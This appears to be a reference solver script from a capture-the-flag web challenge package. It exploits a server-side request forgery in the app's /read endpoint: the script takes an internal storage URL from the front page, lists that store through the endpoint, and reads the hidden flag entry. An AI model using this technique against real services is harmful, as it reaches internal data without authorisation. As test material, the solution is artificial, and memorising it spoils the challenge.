#!/usr/bin/env python3
"""Solves @SLUG@: solve.py URL [CONNECT_HOST] prints the flag, and nothing else on its last line.

URL is the instance's address, e.g. http://label.localhost:8001. CONNECT_HOST is where to open the socket when the name
in the URL resolves nowhere.
"""

import html
import re
import sys
from http.client import HTTPConnection
from urllib.parse import quote, urlsplit


def get(url, path, connect_host):
    address = urlsplit(url)
    connection = HTTPConnection(connect_host or address.hostname, address.port or 80, timeout=30)
    connection.request("GET", path, headers={"Host": address.netloc})
    return connection.getresponse().read().decode()


def read(url, note, connect_host):
    shown = re.search(r"<pre>(.*?)</pre>", get(url, f"/read?at={quote(note)}", connect_host), re.DOTALL)
    return html.unescape(shown.group(1)).strip() if shown else ""


def solve(url, connect_host=None):
    store = re.search(r'value="(http://[^/"]+)/welcome"', get(url, "/", connect_host)).group(1)
    names = read(url, f"{store}/", connect_host).split()
    return next((read(url, f"{store}/{name}", connect_host) for name in names if name != "welcome"), None)


if __name__ == "__main__":
    if len(sys.argv) not in (2, 3):
        raise SystemExit("usage: solve.py URL [CONNECT_HOST]")
    flag = solve(*sys.argv[1:])
    if not flag:
        raise SystemExit("no flag: the store was not asked for it")
    print(flag)
